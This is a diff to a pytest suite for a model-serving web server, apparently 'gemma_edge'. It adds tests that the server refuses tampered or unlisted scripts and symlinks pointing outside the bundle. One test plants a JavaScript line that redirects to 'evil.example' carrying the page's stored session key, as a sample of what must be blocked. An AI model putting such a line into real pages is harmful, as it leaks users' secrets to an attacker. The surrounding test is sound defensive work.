@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import hashlib
 import http.client
 import json
+import shutil
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import replace
@@ -11,6 +13,7 @@ from pathlib import Path
 
 import pytest
 from support.checkpoints import plan_of
+from support.damage import reseal
 from support.serving import COMPLETIONS, in_a_thread, send
 from support.toys import toy_backend, write_toy_bundle
 
@@ -25,11 +28,17 @@ from gemma_edge.bundle.signature import Signature
 from gemma_edge.runtimes.generation.generate import GenerationOptions
 from gemma_edge.runtimes.serve.access import Access
 from gemma_edge.runtimes.serve.engine import Engine
+from gemma_edge.runtimes.web import site
 
 KEY = "a secret"
 WEIGHTS = "model.web.tflite"
 SECRET = "not for the page"
-CONTENTS = {WEIGHTS: bytes(range(256)) * 512, "gemma-edge.js": b"export {};", "litert.wasm": b"\0asm"}
+WASM = b"\0asm"
+CONTENTS = {
+    WEIGHTS: bytes(range(256)) * 512,
+    "gemma-edge.js": Path(site.__file__).with_name("gemma-edge.js").read_bytes(),
+    "litert.wasm": WASM,
+}
 SIGNATURES = (Signature("prefill_4", "prefill", 4), Signature("decode", "decode", 1))
 ISOLATED = {
     "Cross-Origin-Opener-Policy": "same-origin",
@@ -46,9 +55,17 @@ def serving(bundle: Path, access: Access | None = None) -> Iterator[int]:
         yield port
 
 
+@pytest.fixture(scope="module", autouse=True)
+def library() -> Iterator[None]:
+    """The nonsense in place of a library counts as one."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setitem(site.LIBRARIES, "litert.wasm", hashlib.sha256(WASM).hexdigest())
+        yield
+
+
 @pytest.fixture(scope="module")
 def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A toy with a web backend beside the other one. Its files are nonsense: no test here runs them."""
+    """A toy with a web backend beside the other one. Weights and library are nonsense: no test here runs them."""
     home = tmp_path_factory.mktemp("page")
     (home / "outside.js").write_text(SECRET, encoding="utf-8")
     folder = write_toy_bundle(home / "bundle")
@@ -129,8 +146,6 @@ def test_no_other_file_is_there(path: str, port: int) -> None:
 
 
 def test_a_file_that_became_a_link_to_elsewhere_is_refused(tmp_path: Path, bundle: Path) -> None:
-    import shutil
-
     folder = Path(shutil.copytree(bundle, tmp_path / "bundle"))
     (tmp_path / "outside.js").write_text(SECRET, encoding="utf-8")
     with serving(folder) as port:
@@ -139,6 +154,23 @@ def test_a_file_that_became_a_link_to_elsewhere_is_refused(tmp_path: Path, bundl
         (folder / "gemma-edge.js").symlink_to(tmp_path / "outside.js")
         answer, content = fetch(port, "/web/gemma-edge.js")
     assert answer.status == 400 and "outside the bundle" in content.decode() and SECRET not in content.decode()
+
+
+@pytest.mark.parametrize("name", ["gemma-edge.js", "litert.wasm", "more.js"])
+def test_scripts_of_somebody_else_are_given_to_nobody(
+    name: str, tmp_path: Path, bundle: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """They would run where the chat page keeps the key."""
+    folder = Path(shutil.copytree(bundle, tmp_path / "bundle"))
+    (folder / "unlisted.js").unlink()
+    (folder / name).write_bytes(b"location = 'https://evil.example/' + sessionStorage.key")
+    reseal(folder)
+    with serving(folder) as port:
+        (model,) = json.loads(fetch(port, "/v1/models")[1])["data"]
+        answers = [fetch(port, f"/web/{file}") for file in (name, "manifest.json", WEIGHTS)]
+    assert "page_files" not in model and f"{name} is not what this gemma-edge would write" in caplog.text
+    assert [answer.status for answer, _ in answers] == [404] * 3
+    assert all("export the bundle again" in content.decode() for _, content in answers)
 
 
 def test_a_bundle_that_no_page_can_run_says_how_to_make_one(tmp_path: Path) -> None:
